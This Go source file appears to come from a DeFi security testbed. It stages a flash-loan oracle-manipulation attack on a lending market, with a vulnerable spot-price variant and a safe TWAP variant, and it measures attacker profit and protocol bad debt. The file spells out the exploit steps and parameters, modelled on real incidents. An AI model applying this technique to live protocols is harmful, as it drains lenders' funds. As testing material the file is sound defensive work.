package attack

import (
	"context"
	"fmt"
	"math/big"

	"github.com/ethereum/go-ethereum/core/types"

	"github.com/aegis-defi/aegis/internal/chain"
	"github.com/aegis-defi/aegis/internal/testbed"
)

// OracleManipulation is the flash-loan price-manipulation attack on a
// lending market that values collateral at an AMM's spot price.
//
// Setup deploys the core testbed (internal/testbed), has two honest users
// supply 500 WETH each to the target market (on top of the deployer's
// 2,000) and deploys the attacker's OracleAttacker. The exploit is one
// transaction: flash-borrow 9,000 WETH, buy TKN with it (the spot price
// rises ~100x), post just enough TKN to borrow all of the market's WETH,
// sell the remaining TKN back, repay the loan and keep the difference.
//
// Vulnerable variant: the market is testbed.LendingSpot (SpotOracle).
// Safe variant: testbed.LendingTWAP (TwapOracle); the collateral is valued
// at the time-weighted price, the borrow is far too small to repay the
// flash loan, and the transaction reverts.
type OracleManipulation struct{}

// oracleFlashLoan is the WETH the attacker flash-borrows (of the testbed
// pool's 10,000).
func oracleFlashLoan() *big.Int { return chain.Ether(9_000) }

// oracleHonestSupply is what each of two honest lenders supplies.
func oracleHonestSupply() *big.Int { return chain.Ether(500) }

// oracleExploitGas is the exploit transaction's gas limit: one transaction
// with a flash loan, two swaps, a deposit and a borrow, on a chain where new
// storage slots are expensive.
const oracleExploitGas = 12_000_000

// Info implements Scenario.
func (OracleManipulation) Info() Info {
	return Info{
		Name:     "oracle-manipulation",
		Class:    "flash-loan price manipulation",
		Incident: "Harvest Finance 2020 / Cream Finance 2021 / Inverse Finance 2022",
		Summary: "A flash-loaned swap pumps the collateral token's AMM spot price, the attacker borrows all of a " +
			"lending market's WETH against a sliver of collateral valued at that price, swaps back, repays the " +
			"loan and leaves bad debt, all in one transaction.",
	}
}

// Setup implements Scenario.
func (OracleManipulation) Setup(ctx context.Context, env *Env, v Variant) (Staged, error) {
	if err := requireUsers(env, 2); err != nil {
		return nil, fmt.Errorf("oracle-manipulation: %w", err)
	}
	kind, name := testbed.Spot, "lending-spot"
	switch v {
	case Vulnerable:
	case Safe:
		kind, name = testbed.TWAP, "lending-twap"
	default:
		return nil, fmt.Errorf("oracle-manipulation: unknown variant %q", v)
	}
	c := env.Client
	tb, err := testbed.Deploy(ctx, c, env.Deployer, env.Guardian, testbed.Options{})
	if err != nil {
		return nil, fmt.Errorf("oracle-manipulation: %w", err)
	}
	market, err := tb.Lending(kind)
	if err != nil {
		return nil, fmt.Errorf("oracle-manipulation: %w", err)
	}
	for _, u := range env.Users[:2] {
		if err := testbed.WrapETH(ctx, u, tb.WETH, oracleHonestSupply()); err != nil {
			return nil, fmt.Errorf("oracle-manipulation: honest lender: %w", err)
		}
		if err := testbed.SupplyLending(ctx, u, market, tb.WETH, oracleHonestSupply()); err != nil {
			return nil, fmt.Errorf("oracle-manipulation: honest lender: %w", err)
		}
	}
	attacker, err := testbed.DeployContract(ctx, c, env.Attacker, "OracleAttacker",
		tb.FlashPool.Address, tb.Pair.Address, market.Address, tb.WETH.Address, tb.TKN.Address)
	if err != nil {
		return nil, fmt.Errorf("oracle-manipulation: %w", err)
	}
	// The fair price is the pool's price before the attack (both oracles
	// agree on it at this point).
	fair, err := tb.SpotOracle.CallBig(ctx, "price", tb.TKN.Address)
	if err != nil {
		return nil, fmt.Errorf("oracle-manipulation: fair price: SpotOracle.price: %w", err)
	}
	meter, err := newProfitMeter(ctx, c, tb.WETH, env.Attacker.Address)
	if err != nil {
		return nil, fmt.Errorf("oracle-manipulation: %w", err)
	}
	return &oracleStaged{
		env: env, tb: tb, market: market, marketName: name, attacker: attacker,
		fairPrice: fair, meter: meter,
	}, nil
}

type oracleStaged struct {
	env        *Env
	tb         *testbed.Testbed
	market     *chain.Contract
	marketName string
	attacker   *chain.Contract
	fairPrice  *big.Int
	meter      *profitMeter
	txs        []*types.Transaction
}

// Targets implements Staged: the lending market first, then the flash-loan
// pool the attack borrows from.
func (s *oracleStaged) Targets() []Target {
	return []Target{
		{Name: s.marketName, Address: s.market.Address, Pausable: true},
		{Name: "flash-pool", Address: s.tb.FlashPool.Address, Pausable: true},
		{Name: "amm-pair", Address: s.tb.Pair.Address, Pausable: false},
	}
}

// Exploit implements Staged: one OracleAttacker.attack(9,000 WETH) call.
func (s *oracleStaged) Exploit(ctx context.Context) ([]*types.Transaction, error) {
	data, err := s.attacker.Pack("attack", oracleFlashLoan())
	if err != nil {
		return nil, fmt.Errorf("oracle-manipulation: %w", err)
	}
	tx, err := s.env.Client.BuildTx(ctx, s.env.Attacker, &s.attacker.Address, data, chain.TxOpts{GasLimit: oracleExploitGas})
	if err != nil {
		return nil, fmt.Errorf("oracle-manipulation: build OracleAttacker.attack: %w", err)
	}
	s.txs = []*types.Transaction{tx}
	return s.txs, nil
}

// Outcome implements Staged. AttackerProfit is the attacker EOA's ETH+WETH
// gain since Setup, gas fees excluded. ProtocolLoss is the market's bad
// debt: the attacker contract's debt minus its collateral valued at the
// fair (pre-attack) price, floored at zero; lenders bear it.
func (s *oracleStaged) Outcome(ctx context.Context) (Outcome, error) {
	profit, err := s.meter.profit(ctx, s.txs)
	if err != nil {
		return Outcome{}, fmt.Errorf("oracle-manipulation: %w", err)
	}
	debt, err := s.market.CallBig(ctx, "borrowBalance", s.attacker.Address)
	if err != nil {
		return Outcome{}, fmt.Errorf("oracle-manipulation: LendingMarket.borrowBalance: %w", err)
	}
	coll, err := s.market.CallBig(ctx, "collateralOf", s.attacker.Address)
	if err != nil {
		return Outcome{}, fmt.Errorf("oracle-manipulation: LendingMarket.collateralOf: %w", err)
	}
	fairValue := new(big.Int).Mul(coll, s.fairPrice)
	fairValue.Quo(fairValue, chain.Ether(1))
	loss := new(big.Int).Sub(debt, fairValue)
	if loss.Sign() < 0 {
		loss.SetInt64(0)
	}
	return Outcome{AttackerProfit: profit, ProtocolLoss: loss}, nil
}
